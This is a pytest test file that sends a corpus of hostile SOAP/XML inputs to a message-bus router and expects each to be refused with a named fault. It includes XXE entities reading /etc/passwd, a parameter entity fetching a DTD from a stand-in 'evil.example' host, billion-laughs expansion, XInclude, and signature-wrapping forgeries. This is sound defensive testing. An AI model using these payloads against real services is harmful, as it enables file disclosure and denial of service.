"""Hostile and broken inputs to ``Router.handle``: each one a SOAP Fault with a stable code.

Every case is raw bytes sent to the router. For each the test checks: HTTP status 500
with a SOAP 1.1 ``soap:Client`` Fault carrying a named 1.1 fault, the stable code
expected (after the dot of ``faultcode``), a description that names the problem,
nothing queued anywhere, and a good request afterwards still going through. A
hypothesis test then mutates a valid signed SendRequest at random.
"""

from __future__ import annotations

import base64
import copy
import re
import uuid
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass
from datetime import datetime, timedelta

import pytest
from cryptography import x509
from cryptography.hazmat.primitives.serialization import Encoding
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from lxml import etree

from gateway.core.envelope import MessageMetadata, ParticipantRef
from gateway.core.errors import error_class, error_classes
from gateway.crypto.algorithms import RSA_SHA256
from gateway.transport.base import Direction
from gateway.xml import messages as m
from gateway.xml.namespaces import SMEV_BASIC, SMEV_TYPES, SOAP_ENV, qname
from gateway.xml.soap import SOAP12_ENV, parse_fault
from tests.unit.bus_fixtures import (
    BIRTH,
    START,
    Bus,
    birth_request,
    birth_response,
    content,
    open_bus,
    send_request_body,
    signed,
    signer_for,
    soap,
    uuid1_at,
)

T = f"{{{SMEV_TYPES}}}"
KNOWN_CODES = {e.code for e in error_classes()} - {"internal"}


@pytest.fixture
async def bus() -> AsyncIterator[Bus]:
    b = await open_bus()
    yield b
    await b.close()


# --- building blocks -------------------------------------------------------------------


def good_request(
    bus: Bus,
    mnemonic: str = "PORTAL",
    *,
    message_id: uuid.UUID | None = None,
    business: etree._Element | None = None,
    eol: datetime | None = None,
    data_id: str = m.CONSUMER_ID,
) -> bytes:
    """A SendRequest (a birth record unless ``business`` is given), signed by ``mnemonic``."""
    body = send_request_body(
        bus.pki.signer(mnemonic), message_id=message_id, business=business, eol=eol, data_id=data_id
    )
    return soap(body)


def replace_once(raw: bytes, old: bytes, new: bytes) -> bytes:
    assert raw.count(old) == 1, f"{old!r} occurs {raw.count(old)} times"
    return raw.replace(old, new)


def envelope(raw: bytes) -> etree._Element:
    return etree.fromstring(raw)


def serialize(root: etree._Element) -> bytes:
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8")


def body_child(root: etree._Element) -> etree._Element:
    body = root.find(qname(SOAP_ENV, "Body"))
    assert body is not None
    return body[0]


def with_doctype(raw: bytes, doctype: bytes, entity: bytes | None = None) -> bytes:
    """``raw`` with a DOCTYPE after the XML declaration, optionally using an entity."""
    declaration, rest = raw.split(b"\n", 1)
    doc = declaration + b"\n" + doctype + b"\n" + rest
    if entity is not None:
        doc = doc.replace("Смирнова".encode(), entity, 1)
    return doc


def signature_text(raw: bytes, name: str) -> bytes:
    found = re.search(rb"<ds:" + name.encode() + rb">([^<]+)</ds:", raw)
    assert found is not None, name
    return found.group(1)


def flip_base64(value: bytes, at: int = 10) -> bytes:
    """The same base64 text with one character changed (length and validity kept)."""
    alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    old = value[at : at + 1]
    new = alphabet[(alphabet.index(old) + 1) % 64 : (alphabet.index(old) + 1) % 64 + 1]
    return value[:at] + new + value[at + 1 :]


def selector_body(bus: Bus, operation: str, timestamp_shift: timedelta) -> etree._Element:
    selector = m.TypeSelector(timestamp=bus.clock.now() + timestamp_shift)
    build = m.build_get_request if operation == "GetRequest" else m.build_get_response
    return build(selector)


async def pending_request(bus: Bus) -> str:
    """A PORTAL birth request, pulled by ZAGS (so it awaits an answer); its id."""
    sent = await bus.portal.send_request(birth_request())
    delivery = await bus.zags.get_request()
    assert delivery is not None
    return str(sent.message_id)


# --- the corpus ------------------------------------------------------------------------

Build = Callable[[Bus], Awaitable[bytes]]


@dataclass(frozen=True)
class Case:
    id: str
    build: Build
    code: str
    fragment: str


CASES: list[Case] = []


def case(code: str, fragment: str) -> Callable[[Build], Build]:
    def register(build: Build) -> Build:
        CASES.append(Case(build.__name__, build, code, fragment))
        return build

    return register


# Not XML, or not what the bus reads as XML.


@case("invalid_content", "empty")
async def empty_body(bus: Bus) -> bytes:
    return b""


@case("invalid_content", "empty")
async def whitespace_only(bus: Bus) -> bytes:
    return b" \r\n\t "


@case("invalid_content", "not well-formed")
async def not_xml(bus: Bus) -> bytes:
    return b"GET /ws HTTP/1.1\r\nHost: bus\r\n\r\n"


@case("invalid_content", "not well-formed")
async def json_instead_of_xml(bus: Bus) -> bytes:
    return b'{"SendRequest": {"MessageID": "x"}}'


@case("invalid_content", "not well-formed")
async def truncated_xml(bus: Bus) -> bytes:
    raw = good_request(bus)
    return raw[: len(raw) // 2]


@case("invalid_content", "not well-formed")
async def non_utf8_garbage(bus: Bus) -> bytes:
    return b"\x80\x81\xfe\xc3\x28\xa0\xa1 <\x00\x9f garbage \xf0\x28\x8c\x28"


@case("invalid_content", "character encoding")
async def windows_1251_bytes_declared_utf8(bus: Bus) -> bytes:
    raw = good_request(bus)
    return raw.replace("Смирнова".encode(), "Смирнова".encode("cp1251"))


@case("invalid_content", "not well-formed")
async def undeclared_entity_reference(bus: Bus) -> bytes:
    return replace_once(good_request(bus), "Смирнова".encode(), b"&xxe;")


# DTDs and entities: refused before anything is expanded or fetched.


@case("invalid_content", "DOCTYPE")
async def xxe_external_entity(bus: Bus) -> bytes:
    doctype = b'<!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    return with_doctype(good_request(bus), doctype, b"&xxe;")


@case("invalid_content", "DOCTYPE")
async def xxe_parameter_entity(bus: Bus) -> bytes:
    doctype = (
        b'<!DOCTYPE soap:Envelope [<!ENTITY % file SYSTEM "file:///etc/passwd">'
        b'<!ENTITY % dtd SYSTEM "http://evil.example/exfil.dtd"> %dtd; %file;]>'
    )
    return with_doctype(good_request(bus), doctype)


@case("invalid_content", "DOCTYPE")
async def billion_laughs(bus: Bus) -> bytes:
    entities = [b'<!ENTITY lol0 "lol">']
    entities += [
        b'<!ENTITY lol%d "%s">' % (i, b"".join(b"&lol%d;" % (i - 1) for _ in range(10)))
        for i in range(1, 10)
    ]
    doctype = b"<!DOCTYPE soap:Envelope [" + b"".join(entities) + b"]>"
    return with_doctype(good_request(bus), doctype, b"&lol9;")


@case("invalid_content", "DOCTYPE")
async def external_dtd(bus: Bus) -> bytes:
    doctype = b'<!DOCTYPE soap:Envelope SYSTEM "http://evil.example/soap.dtd">'
    return with_doctype(good_request(bus), doctype)


# XML's DOCTYPE is upper case: libxml2 reads <!doctype as a broken tag, not a DOCTYPE.
@case("invalid_content", "not well-formed")
async def doctype_after_comment_lowercase(bus: Bus) -> bytes:
    doctype = b'<!-- innocent --><!doctype soap:Envelope SYSTEM "file:///dev/random">'
    return with_doctype(good_request(bus), doctype)


@case("schema_violation", "include")
async def xinclude_is_not_processed(bus: Bus) -> bytes:
    business = birth_request()
    xi = etree.SubElement(business, "{http://www.w3.org/2001/XInclude}include")
    xi.set("href", "file:///etc/passwd")
    xi.set("parse", "text")
    return good_request(bus, business=business)


# Size and shape limits.


@case("message_too_large", "limit is 5242880 bytes")
async def oversize_document(bus: Bus) -> bytes:
    raw = good_request(bus)
    padding = b"<!--" + b"x" * (5 * 1024 * 1024) + b"-->"
    return raw + padding


@case("invalid_content", "deeper than 64")
async def nesting_too_deep(bus: Bus) -> bytes:
    business = birth_request()
    holder = business
    for _ in range(80):
        holder = etree.SubElement(holder, qname(BIRTH, "Nested"))
    return good_request(bus, business=business)


# SOAP structure.


@case("invalid_content", "SOAP 1.2")
async def soap12_envelope(bus: Bus) -> bytes:
    raw = good_request(bus)
    return raw.replace(SOAP_ENV.encode(), SOAP12_ENV.encode())


@case("invalid_content", "expected a SOAP 1.1 <Envelope>")
async def not_an_envelope_root(bus: Bus) -> bytes:
    return serialize(send_request_body(bus.pki.signer("PORTAL")))


@case("invalid_content", "exactly one element, found 2")
async def body_with_two_elements(bus: Bus) -> bytes:
    root = envelope(good_request(bus))
    body = root.find(qname(SOAP_ENV, "Body"))
    assert body is not None
    body.append(send_request_body(bus.pki.signer("PORTAL"), message_id=uuid1_at(START)))
    return serialize(root)


@case("invalid_content", "exactly one element, found 0")
async def empty_soap_body(bus: Bus) -> bytes:
    return b'<soap:Envelope xmlns:soap="' + SOAP_ENV.encode() + b'"><soap:Body/></soap:Envelope>'


@case("invalid_content", "Header followed by one Body")
async def two_bodies(bus: Bus) -> bytes:
    root = envelope(good_request(bus))
    root.append(copy.deepcopy(root[1]))
    return serialize(root)


@case("invalid_content", "not a message-exchange operation")
async def unknown_operation(bus: Bus) -> bytes:
    root = envelope(good_request(bus))
    body_child(root).tag = qname(SMEV_TYPES, "DeleteAllMessagesRequest")
    return serialize(root)


@case("invalid_content", "not a message-exchange operation")
async def operation_in_foreign_namespace(bus: Bus) -> bytes:
    root = envelope(good_request(bus))
    body_child(root).tag = qname("urn:evil", "SendRequestRequest")
    return serialize(root)


@case("invalid_content", "is a reply")
async def reply_element_sent_as_request(bus: Bus) -> bytes:
    meta = MessageMetadata(
        message_id=uuid1_at(START),
        message_type=BIRTH,
        sender=ParticipantRef(mnemonic="PORTAL"),
        sending_timestamp=START,
    )
    return soap(m.build_send_request_response(meta))


@case("invalid_content", "holds a Fault")
async def fault_sent_as_request(bus: Bus) -> bytes:
    return (
        b'<soap:Envelope xmlns:soap="' + SOAP_ENV.encode() + b'"><soap:Body><soap:Fault>'
        b"<faultcode>soap:Client</faultcode><faultstring>x</faultstring>"
        b"</soap:Fault></soap:Body></soap:Envelope>"
    )


@case("invalid_content", "mustUnderstand")
async def must_understand_header(bus: Bus) -> bytes:
    root = envelope(good_request(bus))
    header = root.find(qname(SOAP_ENV, "Header"))
    assert header is not None
    block = etree.SubElement(header, "{urn:wsse}Security")
    block.set(qname(SOAP_ENV, "mustUnderstand"), "1")
    return serialize(root)


# Bus schema (the envelope's own XSD).


@case("schema_violation", "SenderProvidedRequestData")
async def wrong_namespace_on_request_data(bus: Bus) -> bytes:
    root = envelope(good_request(bus))
    data = body_child(root).find(f"{T}SenderProvidedRequestData")
    assert data is not None
    data.tag = qname(
        "urn://x-artefacts-smev-gov-ru/services/message-exchange/types/1.0",
        "SenderProvidedRequestData",
    )
    return serialize(root)


@case("schema_violation", "MessageID")
async def missing_message_id(bus: Bus) -> bytes:
    body = send_request_body(None)
    data = body.find(f"{T}SenderProvidedRequestData")
    assert data is not None
    message_id = data.find(f"{T}MessageID")
    assert message_id is not None
    data.remove(message_id)
    return soap(signed(body, bus.pki.signer("PORTAL")))


@case("invalid_content", "MessageID")
async def message_id_not_uuid_v1(bus: Bus) -> bytes:
    return good_request(bus, message_id=uuid.uuid4())


@case("schema_violation", "CallerInformationSystemSignature")
async def signature_container_without_signature(bus: Bus) -> bytes:
    body = send_request_body(None)
    etree.SubElement(body, f"{T}CallerInformationSystemSignature")
    return soap(body)


@case("schema_violation", "RequestRejected")
async def response_with_content_and_rejection(bus: Bus) -> bytes:
    to = await pending_request(bus)
    body = m.build_send_response(uuid1_at(START), to, content=birth_response())
    data = body.find(f"{T}SenderProvidedResponseData")
    assert data is not None
    rejected = etree.SubElement(data, f"{T}RequestRejected")
    etree.SubElement(rejected, f"{T}RejectionReasonCode").text = "NO_DATA"
    etree.SubElement(rejected, f"{T}RejectionReasonDescription").text = "none"
    return soap(signed(body, bus.pki.signer("ZAGS")))


# Business content schema.


@case("schema_violation", "BirthDate")
async def bad_birth_date(bus: Bus) -> bytes:
    business = birth_request()
    date = business.find(f"{{{BIRTH}}}Child/{{{BIRTH}}}BirthDate")
    assert date is not None
    date.text = "14.03.2019"
    return good_request(bus, business=business)


@case("schema_violation", "unknown message type")
async def unknown_message_type(bus: Bus) -> bytes:
    business = etree.fromstring(
        b'<PetRecordRequest xmlns="urn://smevbus/types/pets/cat/1.0"><Name>Tom</Name>'
        b"</PetRecordRequest>"
    )
    return good_request(bus, business=business)


@case("schema_violation", "BirthRecordRequest")
async def response_content_in_a_request(bus: Bus) -> bytes:
    return good_request(bus, business=birth_response())


# Signatures.


@case("signature_invalid", "is not signed")
async def unsigned_request(bus: Bus) -> bytes:
    return soap(send_request_body(None))


@case("schema_violation", "CallerInformationSystemSignature")
async def unsigned_get_status(bus: Bus) -> bytes:
    # 1.1 makes GetStatus's signature required in the schema itself.
    return soap(m.build_get_status(START))


@case("signature_invalid", "changed after signing")
async def content_tampered_after_signing(bus: Bus) -> bytes:
    return replace_once(good_request(bus), "Смирнова".encode(), "Петрова".encode())


@case("signature_invalid", "changed after signing")
async def message_id_tampered_after_signing(bus: Bus) -> bytes:
    raw = good_request(bus, message_id=uuid1_at(START))
    root = envelope(raw)
    data = body_child(root).find(f"{T}SenderProvidedRequestData")
    assert data is not None
    message_id = data.find(f"{T}MessageID")
    assert message_id is not None
    message_id.text = str(uuid1_at(START))
    return serialize(root)


@case("signature_invalid", "SignatureValue does not verify")
async def tampered_signature_value(bus: Bus) -> bytes:
    raw = good_request(bus)
    value = signature_text(raw, "SignatureValue")
    return replace_once(raw, value, flip_base64(value))


# SignedInfo's signature is checked before the digest it holds (the cheaper step first).
@case("signature_invalid", "SignedInfo or SignatureValue was changed")
async def tampered_digest_value(bus: Bus) -> bytes:
    raw = good_request(bus)
    value = signature_text(raw, "DigestValue")
    return replace_once(raw, value, flip_base64(value))


@case("signature_invalid", "SignatureValue does not verify")
async def certificate_swapped_in_key_info(bus: Bus) -> bytes:
    raw = good_request(bus)  # signed with PORTAL's key ...
    zags = bus.pki.signer("ZAGS").certificate
    # ... but KeyInfo claims ZAGS's (trusted, registered) certificate.
    swapped = base64.b64encode(zags.public_bytes(Encoding.DER))
    return replace_once(raw, signature_text(raw, "X509Certificate"), swapped)


@case("signature_invalid", "SignatureMethod")
async def signature_method_substituted(bus: Bus) -> bytes:
    raw = good_request(bus)
    return replace_once(
        raw,
        b"http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256",
        RSA_SHA256.encode(),
    )


@case("signature_invalid", "not accepted")
async def xslt_transform_injected(bus: Bus) -> bytes:
    raw = good_request(bus)
    return replace_once(
        raw,
        b'<ds:Transform Algorithm="urn://smev-gov-ru/xmldsig/transform"/>',
        b'<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"/>',
    )


@case("signature_invalid", "occurs 2 times")
async def signature_wrapping_duplicate_id(bus: Bus) -> bytes:
    """The signed original moved into the Header; a forged copy with its Id in the Body."""
    root = envelope(good_request(bus))
    operation = body_child(root)
    original = operation.find(f"{T}SenderProvidedRequestData")
    assert original is not None
    forged = copy.deepcopy(original)
    name = forged.find(f".//{{{BIRTH}}}FirstName")
    assert name is not None
    name.text = "Мария"
    header = root.find(qname(SOAP_ENV, "Header"))
    assert header is not None
    header.append(original)  # moved
    operation.insert(0, forged)
    return serialize(root)


@case("signature_invalid", "Reference URI")
async def signature_wrapping_other_id(bus: Bus) -> bytes:
    """The signed original kept in the Header; the Body holds a forged, differently-Id'd one."""
    root = envelope(good_request(bus))
    operation = body_child(root)
    original = operation.find(f"{T}SenderProvidedRequestData")
    assert original is not None
    forged = copy.deepcopy(original)
    forged.set("Id", "FORGED")
    header = root.find(qname(SOAP_ENV, "Header"))
    assert header is not None
    header.append(original)
    operation.insert(0, forged)
    return serialize(root)


@case("signature_invalid", "reserved")
async def reserved_bus_id(bus: Bus) -> bytes:
    return good_request(bus, data_id=m.SMEV_ID)


# Certificates.


def _with_certificate_der(bus: Bus, raw: bytes, damage: Callable[[bytes], bytes]) -> bytes:
    der = bus.pki.signer("PORTAL").certificate.public_bytes(Encoding.DER)
    damaged = damage(der)
    assert damaged != der
    return replace_once(raw, signature_text(raw, "X509Certificate"), base64.b64encode(damaged))


@case("signature_invalid", "not a usable certificate")
async def certificate_with_unknown_curve(bus: Bus) -> bytes:
    p256 = bytes.fromhex("06082a8648ce3d030107")  # OID 1.2.840.10045.3.1.7
    return _with_certificate_der(
        bus, good_request(bus), lambda der: der.replace(p256, p256[:-1] + b"\x08")
    )


@case("signature_invalid", "not a usable certificate")
async def certificate_with_garbled_issuer(bus: Bus) -> bytes:
    """The key still matches the signature; the issuer name is not valid UTF-8."""
    return _with_certificate_der(
        bus,
        good_request(bus),
        lambda der: der.replace(b"\x0c\x13smevbus dev", b"\x0c\x13\xffmevbus dev"),
    )


@case("certificate_untrusted", "CA")
async def certificate_from_untrusted_ca(bus: Bus) -> bytes:
    return soap(send_request_body(signer_for(bus.pki.untrusted)))


@case("certificate_expired", "expired")
async def expired_certificate(bus: Bus) -> bytes:
    return soap(send_request_body(signer_for(bus.pki.expired)))


@case("certificate_expired", "not valid before")
async def not_yet_valid_certificate(bus: Bus) -> bytes:
    return soap(send_request_body(signer_for(bus.pki.not_yet_valid)))


@case("certificate_untrusted", "revoked")
async def revoked_certificate(bus: Bus) -> bytes:
    return soap(send_request_body(signer_for(bus.pki.revoked)))


# Who may do what (registry).


@case("sender_not_registered", "STRANGER")
async def unknown_sender(bus: Bus) -> bytes:
    return soap(send_request_body(signer_for(bus.pki.stranger)))


@case("access_denied", "ZAGS is not allowed to request")
async def provider_sends_a_request(bus: Bus) -> bytes:
    return good_request(bus, "ZAGS")


@case("access_denied", "FNS is not allowed to request")
async def fns_requests_inn(bus: Bus) -> bytes:
    return good_request(bus, "FNS", business=content("fns-inn.request"))


@case("access_denied", "MVD_MIGR did not receive request")
async def provider_answers_a_type_it_does_not_provide(bus: Bus) -> bytes:
    to = await pending_request(bus)  # a birth record request, routed to ZAGS
    body = m.build_send_response(uuid1_at(START), to, content=birth_response())
    return soap(signed(body, bus.pki.signer("MVD_MIGR")))


@case("access_denied", "PORTAL did not receive request")
async def consumer_answers_its_own_request(bus: Bus) -> bytes:
    to = await pending_request(bus)
    body = m.build_send_response(uuid1_at(START), to, content=birth_response())
    return soap(signed(body, bus.pki.signer("PORTAL")))


@case("not_found", "names no request")
async def response_to_unknown_request(bus: Bus) -> bytes:
    body = m.build_send_response(uuid1_at(START), "no-such-request", content=birth_response())
    return soap(signed(body, bus.pki.signer("ZAGS")))


@case("message_already_sent", "already sent with different content")
async def same_message_id_other_content(bus: Bus) -> bytes:
    message_id = uuid1_at(START)
    await bus.portal.send_request(birth_request(), message_id=message_id)
    other = birth_request()
    name = other.find(f".//{{{BIRTH}}}FirstName")
    assert name is not None
    name.text = "Мария"
    return good_request(bus, message_id=message_id, business=other)


# Time: replays and ends of life.


@case("stale_message_id", "outside the accepted window")
async def stale_message_id(bus: Bus) -> bytes:
    return good_request(bus, message_id=uuid1_at(START - timedelta(days=3)))


@case("stale_message_id", "outside the accepted window")
async def message_id_from_the_future(bus: Bus) -> bytes:
    return good_request(bus, message_id=uuid1_at(START + timedelta(hours=1)))


@case("stale_message_id", "outside the accepted window")
async def stale_response_message_id(bus: Bus) -> bytes:
    to = await pending_request(bus)
    body = m.build_send_response(uuid1_at(START - timedelta(days=3)), to, content=birth_response())
    return soap(signed(body, bus.pki.signer("ZAGS")))


@case("invalid_content", "end of life")
async def eol_in_the_past(bus: Bus) -> bytes:
    return good_request(bus, eol=START - timedelta(minutes=1))


@case("stale_message_id", "MessageTypeSelector/Timestamp")
async def replayed_get_request_selector(bus: Bus) -> bytes:
    return soap(
        signed(selector_body(bus, "GetRequest", -timedelta(hours=1)), bus.pki.signer("ZAGS"))
    )


@case("stale_message_id", "MessageTypeSelector/Timestamp")
async def replayed_get_response_selector(bus: Bus) -> bytes:
    return soap(
        signed(selector_body(bus, "GetResponse", -timedelta(days=1)), bus.pki.signer("PORTAL"))
    )


@case("invalid_content", "time zone")
async def selector_timestamp_without_time_zone(bus: Bus) -> bytes:
    body = selector_body(bus, "GetRequest", timedelta(0))
    stamp = body.find(f".//{{{SMEV_BASIC}}}Timestamp")
    assert stamp is not None
    stamp.text = START.replace(tzinfo=None).isoformat()
    return soap(signed(body, bus.pki.signer("ZAGS")))


# --- the test --------------------------------------------------------------------------


def _fault_parts(raw: bytes) -> tuple[str, str, str, str]:
    """(faultcode, stable code, origin, description) of a 1.1 named fault: the stable
    code is written after the dot of the faultcode (``soap:Client.schema_violation``)."""
    fault = parse_fault(etree.fromstring(raw))
    assert fault is not None, raw[:300]
    assert fault.element is not None, raw[:300]  # a named 1.1 fault in the detail
    cls = error_class(fault.code or "")
    return (
        fault.faultcode,
        fault.code or "",
        "" if cls is None else str(cls.origin),
        fault.description or "",
    )


def test_corpus_is_large_and_unique() -> None:
    ids = [c.id for c in CASES]
    assert len(ids) >= 30
    assert len(set(ids)) == len(ids)
    assert {c.code for c in CASES} <= KNOWN_CODES


@pytest.mark.parametrize("bad", CASES, ids=[c.id for c in CASES])
async def test_bad_input_is_refused_with_its_code(bus: Bus, bad: Case) -> None:
    raw = await bad.build(bus)
    before = await bus.depths()

    status, reply = await bus.router.handle(raw)

    assert status == 500
    faultcode, code, origin, description = _fault_parts(reply)
    assert code == bad.code, description
    assert faultcode == "soap:Client"
    assert origin == "client"
    assert description.strip()
    assert bad.fragment.lower() in description.lower(), description
    assert "root:x:0:0" not in description  # nothing of a local file leaks back
    assert await bus.depths() == before, "a refused input must queue nothing"

    # The router is unharmed: a good request goes through right after.
    sent = await bus.portal.send_request(birth_request())
    assert sent.status == "requestIsAcceptedBySmev"
    assert await bus.depth(Direction.REQUESTS, "ZAGS") == before["requests.ZAGS"] + 1


# --- random damage ---------------------------------------------------------------------

_position = st.integers(0, 1 << 20)
_mutation = st.one_of(
    # Mostly single-byte damage, which keeps the document well-formed often enough to
    # reach the schema, signature and certificate checks; sometimes worse.
    st.tuples(st.just("flip"), _position, st.integers(0, 7)),
    st.tuples(st.just("flip"), _position, st.integers(0, 7)),
    st.tuples(st.just("set"), _position, st.integers(0, 255)),
    st.tuples(st.just("set"), _position, st.integers(0, 255)),
    st.tuples(st.just("delete"), _position, st.integers(1, 16)),
    st.tuples(st.just("insert"), _position, st.binary(min_size=1, max_size=8)),
    st.tuples(st.just("truncate"), _position, st.just(0)),
)


def _mutate(raw: bytes, mutations: list[tuple[str, int, object]]) -> bytes:
    data = bytearray(raw)
    for kind, where, arg in mutations:
        if not data:
            break
        at = where % len(data)
        if kind == "flip":
            assert isinstance(arg, int)
            data[at] ^= 1 << arg
        elif kind == "set":
            assert isinstance(arg, int)
            data[at] = arg
        elif kind == "delete":
            assert isinstance(arg, int)
            del data[at : at + arg]
        elif kind == "insert":
            assert isinstance(arg, bytes)
            data[at:at] = arg
        else:
            del data[at:]
    return bytes(data)


@pytest.mark.filterwarnings("ignore::cryptography.utils.CryptographyDeprecationWarning")
@settings(
    max_examples=400,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(mutations=st.lists(_mutation, min_size=1, max_size=3))
async def test_random_damage_gives_a_known_fault_or_success(
    bus: Bus, mutations: list[tuple[str, int, object]]
) -> None:
    raw = good_request(bus, message_id=_MUTATED_ID)
    damaged = _mutate(raw, mutations)

    status, reply = await bus.router.handle(damaged)

    root = etree.fromstring(reply)
    fault = root.find(f"{qname(SOAP_ENV, 'Body')}/{qname(SOAP_ENV, 'Fault')}")
    if status == 200:
        assert fault is None
        # Only insignificant bytes were hit: it is the same message, queued once.
        assert await bus.depth(Direction.REQUESTS, "ZAGS") <= 1
        event("accepted")
    else:
        assert status == 500
        assert fault is not None
        _, code, _, description = _fault_parts(reply)
        assert code in KNOWN_CODES, f"{code}: {description} for {damaged!r}"
        event(code)
        assert description.strip()


_MUTATED_ID = uuid1_at(START)


async def test_mutation_baseline_is_accepted(bus: Bus) -> None:
    """The undamaged document the mutations start from is itself accepted."""
    assert (await bus.send(good_request(bus, message_id=_MUTATED_ID))).ok


@pytest.mark.filterwarnings("ignore::cryptography.utils.CryptographyDeprecationWarning")
@settings(
    max_examples=200,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(position=st.integers(0, 1 << 16), value=st.integers(0, 255))
async def test_damaged_signing_certificate_gives_a_known_fault(
    bus: Bus, position: int, value: int
) -> None:
    """One byte of the DER certificate in KeyInfo replaced: parsed lazily, never ``internal``."""
    raw = good_request(bus, message_id=_MUTATED_ID)
    der = bus.pki.signer("PORTAL").certificate.public_bytes(Encoding.DER)
    at = position % len(der)
    damaged = der[:at] + bytes([value]) + der[at + 1 :]
    cert_b64 = signature_text(raw, "X509Certificate")
    status, reply = await bus.router.handle(replace_once(raw, cert_b64, base64.b64encode(damaged)))
    if status == 200:
        # Only a byte no check covers: e.g. the unused-bits octet of the CA signature's
        # BIT STRING. The certificate must still say and be signed exactly the same.
        original = bus.pki.signer("PORTAL").certificate
        accepted = x509.load_der_x509_certificate(damaged)
        assert accepted.tbs_certificate_bytes == original.tbs_certificate_bytes
        assert accepted.signature == original.signature
        event("accepted")
        return
    assert status == 500
    _, code, _, description = _fault_parts(reply)
    event(code)
    assert code in {"signature_invalid", "certificate_untrusted", "certificate_expired"}, (
        f"{code}: {description}"
    )
